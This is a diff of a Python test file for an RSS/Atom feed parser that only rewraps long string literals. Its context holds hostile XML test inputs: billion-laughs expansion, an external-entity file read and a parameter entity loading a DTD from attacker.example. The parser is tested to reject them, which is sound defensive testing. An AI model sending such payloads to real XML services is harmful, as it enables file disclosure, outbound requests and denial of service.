@@ -41,7 +41,8 @@ def test_rss2_fixture() -> None:
     assert [(b.kind, b.text) for b in first.blocks] == [
         (
             "paragraph",
-            "Le débit mesuré à Orléans est tombé sous 40\u00a0m³/s, un niveau jamais vu au printemps depuis 1995.",
+            "Le débit mesuré à Orléans est tombé sous 40\u00a0m³/s, un niveau jamais vu au printemps"
+            " depuis 1995.",
         ),
         ("heading", "Des mesures de restriction"),
         ("paragraph", "La préfecture a limité l'arrosage dans douze communes riveraines."),
@@ -140,7 +141,10 @@ def test_control_characters_and_escapes_cleaned_in_feed() -> None:
 
 
 def test_entity_declaration_inside_cdata_is_not_a_false_alarm() -> None:
-    items = "<item><title>XML tips</title><description><![CDATA[<p>Never allow <!ENTITY in input.</p>]]></description></item>"
+    items = (
+        "<item><title>XML tips</title>"
+        "<description><![CDATA[<p>Never allow <!ENTITY in input.</p>]]></description></item>"
+    )
     [article] = parse_bytes(rss(items), "f.xml").articles
     assert article.title == "XML tips"
 
@@ -163,7 +167,8 @@ BILLION_LAUGHS = (
         '<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
         '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>'
         '<rss version="2.0"/>',
-        '<?xml version="1.0"?><!-- <a> --><!DOCTYPE r [<!ENTITY e "x">]><feed xmlns="http://www.w3.org/2005/Atom"/>',
+        '<?xml version="1.0"?><!-- <a> --><!DOCTYPE r [<!ENTITY e "x">]>'
+        '<feed xmlns="http://www.w3.org/2005/Atom"/>',
     ],
     ids=["billion-laughs", "xxe-system-file", "parameter-entity", "after-comment"],
 )
